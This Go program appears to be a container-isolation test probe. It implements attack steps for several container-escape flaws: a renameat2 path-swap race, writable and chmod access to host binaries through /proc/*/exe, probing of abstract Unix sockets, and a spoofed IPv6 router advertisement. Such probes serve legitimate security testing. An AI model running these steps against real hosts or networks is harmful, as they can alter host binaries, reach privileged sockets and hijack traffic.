package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// untilTerminated calls again and again, after it has said that it begins.
func untilTerminated(again func()) {
	ended := make(chan os.Signal, 1)
	signal.Notify(ended, syscall.SIGTERM)
	fmt.Println("waiting")
	for {
		select {
		case <-ended:
			return
		default:
			again()
		}
	}
}

// swap is what CVE-2021-25741 does: between two looks at a path it leads elsewhere.
func swap(a, b string) (err error) {
	untilTerminated(func() {
		err = unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
		time.Sleep(time.Microsecond)
	})
	return err
}

// overwrite is what CVE-2019-5736 does: whoever starts a program here may be that program's file on the host.
func overwrite() (string, error) {
	own, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return "", err
	}
	programs, err := filepath.Glob("/proc/[0-9]*/exe")
	if err != nil {
		return "", err
	}
	var found []string
	for _, program := range programs {
		name, err := os.Readlink(program)
		if err != nil || name == own {
			continue
		}
		file, err := os.Open(program)
		if err != nil {
			return "", err
		}
		found = append(found, change(file, name))
		file.Close()
	}
	return strings.Join(found, "; "), nil
}

func change(file *os.File, name string) string {
	again, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), os.O_WRONLY, 0)
	if err == nil {
		again.Close()
	}
	return fmt.Sprintf("found %s: opened for writing: %v, made readable by all: %v", name, err, file.Chmod(0o757))
}

// workingDirectory does not trust $PWD.
func workingDirectory() (string, error) {
	at, err := unix.Getwd()
	if err != nil {
		at = "without a path" // and outside of the container
	}
	entries, err := os.ReadDir(".")
	var names []string
	for _, entry := range entries {
		names = append(names, entry.Name())
	}
	return at + " " + strings.Join(names, " "), err
}

// abstractSockets are in no file system: who shares a network namespace with their server reaches them (CVE-2020-15257).
func abstractSockets() (string, error) {
	text, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return "", err
	}
	var open []string
	for line := range strings.Lines(string(text)) {
		fields := strings.Fields(line)
		name := fields[len(fields)-1]
		if !strings.HasPrefix(name, "@") {
			continue
		}
		if conn, err := net.Dial("unix", name); err == nil {
			conn.Close()
			open = append(open, name)
		}
	}
	if len(open) == 0 {
		return "none", nil
	}
	return strings.Join(open, " "), nil
}

// advertise sends a router advertisement to all neighbours (CVE-2020-10749): 2001:db8:bad::/64 is here, and the rest by me.
func advertise() error {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	conn, err := listenRaw(link)
	if err != nil {
		return err
	}
	defer unix.Close(conn)
	message := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0} // a router for half an hour; the kernel sums up
	message = append(message, 3, 4, 64, 0xc0, 0, 0, 0x07, 0x08, 0, 0, 0x07, 0x08, 0, 0, 0, 0)
	message = append(message, net.ParseIP("2001:db8:bad::")...)
	to := &unix.SockaddrInet6{ZoneId: uint32(link.Index), Addr: [16]byte(net.IPv6linklocalallnodes)}
	for end := time.Now().Add(addressTimeMax); ; time.Sleep(addressPoll) { // the address of a new interface is looked for first
		if err = unix.Sendto(conn, message, 0, to); err == nil || time.Now().After(end) {
			return err
		}
	}
}

const (
	addressTimeMax = 5 * time.Second
	addressPoll    = 50 * time.Millisecond
)

// listenRaw is a socket whose packets no router has passed.
func listenRaw(link *net.Interface) (int, error) {
	conn, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMPV6)
	if err != nil {
		return 0, err
	}
	err = errors.Join(
		unix.SetsockoptInt(conn, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_HOPS, 255),
		unix.SetsockoptInt(conn, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_IF, link.Index),
	)
	return conn, err
}
